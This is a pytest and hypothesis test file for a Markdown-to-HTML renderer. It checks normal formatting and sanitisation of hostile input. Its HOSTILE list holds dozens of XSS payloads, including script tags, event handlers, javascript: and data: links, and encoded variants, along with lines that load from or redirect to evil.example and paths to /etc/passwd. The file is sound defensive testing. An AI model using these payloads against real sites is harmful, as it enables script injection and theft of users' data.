"""The body of an entry as HTML: what editors write arrives, what others smuggle in does not."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.support.hostile import ADDRESSES, CONSTRUCTS, FIELDS_ONLY, PASSED, REFUSED, STORIES_ONLY
from tests.support.properties import DEAR

from goodpractices.publishing.pages.markdown import to_html

ALLOWED_TAGS = {
    *("p", "ul", "ol", "li", "blockquote", "br", "em", "strong", "code", "a", "sup"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
LEADS = ("http://", "https://", "mailto:", "#zrodlo-", "../")
ODD = (*REFUSED, *PASSED, *FIELDS_ONLY, *STORIES_ONLY, *ADDRESSES)
ALLOWED_ATTRIBUTES = {"href", "rel", "scope", "class", "start"}


def cite(source: str) -> str:
    return f'<sup class="ref"><a href="#zrodlo-{source}">{source}</a></sup>'


def link(practice: str) -> str:
    return f"../{practice}/"


def html(text: str) -> str:
    return str(to_html(text, cite, link)).replace("&nbsp;", "~")


class Reader(HTMLParser):
    """Gathers what a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data


def read(text: str) -> Reader:
    reader = Reader()
    reader.feed(str(to_html(text, cite, link)))
    reader.close()
    return reader


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "zwykły *nacisk*, **mocny** i ***oba***",
            "<p>zwykły <em>nacisk</em>, <strong>mocny</strong> i~<strong><em>oba</em></strong></p>",
        ),
        ("_nacisk_ __mocny__", "<p><em>nacisk</em> <strong>mocny</strong></p>"),
        ("**mocny *w nim* nacisk**", "<p><strong>mocny <em>w~nim</em> nacisk</strong></p>"),
        ("*raz **dwa***", "<p><em>raz <strong>dwa</strong></em></p>"),
        ("nazwa_z_kreskami i 2 * 3 * 4", "<p>nazwa_z_kreskami i~2 * 3 * 4</p>"),
        ("*bez pary **tu* i tam**", "<p><em>bez pary **tu</em> i~tam**</p>"),
        ("\\*dosłownie\\* i \\[to\\]", "<p>*dosłownie* i~[to]</p>"),
        ("`<b> *x*`", "<p><code>&lt;b&gt; *x*</code></p>"),
        ("pierwszy  \ndrugi", "<p>pierwszy<br>drugi</p>"),
        ("a\n   \nb", "<p>a</p><p>b</p>"),
        ("- raz\n- dwa\n    - trzy", "<ul><li>raz</li><li>dwa<ul><li>trzy</li></ul></li></ul>"),
        ("3. trzy\n4. cztery", '<ol start="3"><li>trzy</li><li>cztery</li></ol>'),
        ("> głos", "<blockquote><p>głos</p></blockquote>"),
        ("### Formy", "<h3>Formy</h3>"),
        ("# Za wysoko", "<h3>Za wysoko</h3>"),
        ("Tekst\n-----", "<p>Tekst\n-----</p>"),
        ("    wcięty", "<p>wcięty</p>"),
        (
            "| Co | Ile |\n|----|---:|\n| w domu | 1 |",
            '<table><thead><tr><th scope="col">Co</th><th scope="col" class="num">Ile</th></tr></thead>'
            '<tbody><tr><td>w~domu</td><td class="num">1</td></tr></tbody></table>',
        ),
        (
            "| raz \\| dwa | c |\n|---|---|",
            '<table><thead><tr><th scope="col">raz | dwa</th><th scope="col">c</th></tr></thead>'
            "<tbody><tr><td></td><td></td></tr></tbody></table>",
        ),
        (
            "[opis](https://a.pl/x_(y)?a=1&b=2)",
            '<p><a href="https://a.pl/x_(y)?a=1&amp;b=2" rel="noopener">opis</a></p>',
        ),
        ('[opis](<https://a.pl/> "tytuł")', '<p><a href="https://a.pl/" rel="noopener">opis</a></p>'),
        ("[*opis* w](https://a.pl)", '<p><a href="https://a.pl" rel="noopener"><em>opis</em> w</a></p>'),
        ("<https://a.pl>", '<p><a href="https://a.pl" rel="noopener">https://a.pl</a></p>'),
        ("<mailto:a@b.pl>", '<p><a href="mailto:a@b.pl" rel="noopener">a@b.pl</a></p>'),
        ("[inna](../epic/index.md)", '<p><a href="../epic/">inna</a></p>'),
        ("[inna](../epic/index.md#cele)", '<p><a href="../epic/#cele">inna</a></p>'),
        ("fakt[^s1].", '<p>fakt<sup class="ref"><a href="#zrodlo-s1">s1</a></sup>.</p>'),
        ("Łódź & Żory, 5 < 6, &amp;", "<p>Łódź &amp; Żory, 5 &lt; 6, &amp;amp;</p>"),
    ],
)
def test_markdown_becomes_the_html_an_editor_expects(text: str, expected: str) -> None:
    assert html(text) == expected


def test_sources_are_cited_in_the_order_of_the_text() -> None:
    page = html("- a[^s2]\n- *b*[^s1]\n\n|c[^s3]|d|\n|-|-|\n|e|f[^s2]|")
    assert re.findall(r"#zrodlo-(s\d)", page) == ["s2", "s1", "s3", "s2"]


def test_a_one_letter_word_is_bound_across_marks_and_line_ends() -> None:
    assert html("w *domu* i\nw pracy") == "<p>w~<em>domu</em> i~w~pracy</p>"


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=\"javascript:alert('x');\">",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/etc/passwd)",
    "[x](../../../etc/passwd)",
    '[x](https://a.pl/"onmouseover="alert(1))',
    "[x](https://a.pl/'onmouseover='alert(1))",
    '[x](https://a.pl "t" onmouseover="alert(1)")',
    "[x](<https://a.pl/<script>alert(1)</script>>)",
    '[x](../epic/index.md#"onclick=alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '![x"onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    '<https://a.pl/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "[^s1]: javascript:alert(1)",
    "[^<script>alert(1)</script>]",
    '[^s1"onclick=alert(1)]',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "x {: onclick=alert(1) style=color:red }",
    "{{ config }} {% include 'x' %} --8<-- \"mkdocs.yml\"",
    "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0000\x03",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_smuggled_in_is_inert(text: str) -> None:
    page = read(text)
    assert page.tags <= ALLOWED_TAGS
    assert page.attributes <= ALLOWED_ATTRIBUTES
    assert [target for target in page.links if not re.match(r"https?://|mailto:|\.\./[a-z-]+/|#zrodlo-", target)] == []


def test_markup_is_shown_as_the_text_it_is() -> None:
    assert read("przed <b onclick=x>w środku</b> po").text.replace("\xa0", " ") == "przed <b onclick=x>w środku</b> po"


@given(st.text(alphabet=" \n*_`[]()<>!#-|\\:^&;/.\"'ax1sś\x02\x03{}~", max_size=60))
def test_no_mixture_of_signs_gives_anything_but_plain_markup(text: str) -> None:
    page = read(text)
    assert page.tags <= ALLOWED_TAGS
    assert page.attributes <= ALLOWED_ATTRIBUTES


@DEAR
@given(st.from_regex(r"[a-z&#;:/.\t]{0,12}(?:javascript|data|vbscript|file):[a-z(&;#]*\)?", fullmatch=True))
def test_no_link_leads_to_what_a_browser_would_run(target: str) -> None:
    for page in (read(f"[x]({target})"), read(f"[x](<{target}>)"), read(f"<{target}>")):
        assert all(each.startswith(("http://", "https://", "mailto:")) for each in page.links)


@pytest.mark.parametrize("section", CONSTRUCTS)
def test_no_text_of_the_corpus_is_more_than_text_anywhere_in_a_story(section: str) -> None:
    for text in ODD:
        page = read(CONSTRUCTS[section].format(text))
        assert page.tags <= ALLOWED_TAGS, text
        assert page.attributes <= ALLOWED_ATTRIBUTES, text
        assert all(each.startswith(LEADS) for each in page.links), text


MARKS = st.sampled_from(
    ["*", "**", "_", "`", "[", "](", ")", "<", ">", "\n", "\n\n", "- ", "1. ", "> ", "|", "|-|\n", "### "]
)


@given(st.lists(st.one_of(MARKS, st.sampled_from(ODD), st.text(max_size=5)), max_size=12).map("".join))
def test_no_mixture_of_hostile_texts_and_marks_is_more_than_an_entry_may_have(text: str) -> None:
    page = read(text)
    assert page.tags <= ALLOWED_TAGS
    assert page.attributes <= ALLOWED_ATTRIBUTES
    assert all(each.startswith(LEADS) for each in page.links)


def test_lists_nested_beyond_reason_are_shown_as_text_and_harm_nothing_after_them() -> None:
    assert "- - - x" in html("- " * 5_000 + "x")
    assert html("potem") == "<p>potem</p>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\r\n\r\nb", "<p>a</p><p>b</p>"),
        ("*bez pary", "<p>*bez pary</p>"),
        ("**** cztery ****", "<p>**** cztery ****</p>"),
        ("a*b*c i a_b_c", "<p>a<em>b</em>c i~a_b_c</p>"),
        ("* ab * b", "<ul><li>ab * b</li></ul>"),
        ("*ab **b* c**", "<p><em>ab **b</em> c**</p>"),
        ("_a_b", "<p>_a_b</p>"),
        ("**a** **b**", "<p><strong>a</strong> <strong>b</strong></p>"),
        ("[a](javascript:x) [b](../nikt/index.md) [c](#tu) [d](plik.pdf)", "<p>a b c d</p>"),
        (
            "[ab <https://b.pl>](https://a.pl)",
            '<p><a href="https://a.pl" rel="noopener">ab &lt;https://b.pl&gt;</a></p>',
        ),
        ("[a](mailto:x@y.pl)", '<p><a href="mailto:x@y.pl" rel="noopener">a</a></p>'),
        ("1. raz\n\ntekst", "<ol><li>raz</li></ol><p>tekst</p>"),
        ("1. raz\n2. dwa", "<ol><li>raz</li><li>dwa</li></ol>"),
        ("- raz\n\n    i dalej", "<ul><li><p>raz</p><p>i~dalej</p></li></ul>"),
        ("#### Drobny *nacisk*", "<h4>Drobny <em>nacisk</em></h4>"),
        (
            "| a |\n|---|\n| **w** |",
            '<table><thead><tr><th scope="col">a</th></tr></thead>'
            "<tbody><tr><td><strong>w</strong></td></tr></tbody></table>",
        ),
        ("a  \nb\nc", "<p>a<br>b\nc</p>"),
        ("\\ab i \\\\", "<p>\\ab i~\\</p>"),
        ("", ""),
    ],
)
def test_markdown_at_its_edges(text: str, expected: str) -> None:
    def known(practice: str) -> str:
        return "" if practice == "nikt" else f"../{practice}/"

    assert str(to_html(text, cite, known)).replace("&nbsp;", "~") == expected


def test_what_is_explained_is_prose_outside_links_headings_and_code() -> None:
    asked: list[str] = []

    def explain(text: str, start: int, end: int) -> str:
        asked.append(text[start:end])
        return text[start:end].upper()

    text = "### tytuł\n\nraz [dwa](https://a.pl) `trzy` *cztery*\n\n- pięć\n\n> sześć"
    assert str(to_html(text, cite, link, explain)) == (
        '<h3>tytuł</h3><p>RAZ <a href="https://a.pl" rel="noopener">dwa</a> <code>trzy</code> <em>CZTERY</em></p>'
        "<ul><li>PIĘĆ</li></ul><blockquote><p>SZEŚĆ</p></blockquote>"
    )
    assert [each for each in asked if each.strip()] == ["raz ", "cztery", "pięć", "sześć"]
